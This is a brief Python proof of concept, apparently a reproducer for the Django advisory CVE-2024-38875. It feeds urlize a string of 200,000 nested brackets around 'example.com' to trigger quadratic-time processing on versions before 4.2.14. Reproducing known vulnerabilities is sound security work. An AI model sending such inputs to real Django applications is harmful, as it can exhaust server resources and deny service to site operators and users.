# PYSEC-2024-56 (CVE-2024-38875): Django before 4.2.14, urlize and urlizetrunc trim wrapping punctuation one
# bracket at a time, counting the brackets of the whole word again for each: a word with a very large number of
# brackets takes quadratic time.
from django.conf import settings

settings.configure(USE_I18N=False)
from django.utils.html import urlize  # noqa: E402

n = 200_000
urlize("(" * n + "example.com" + ")" * (n + 1))
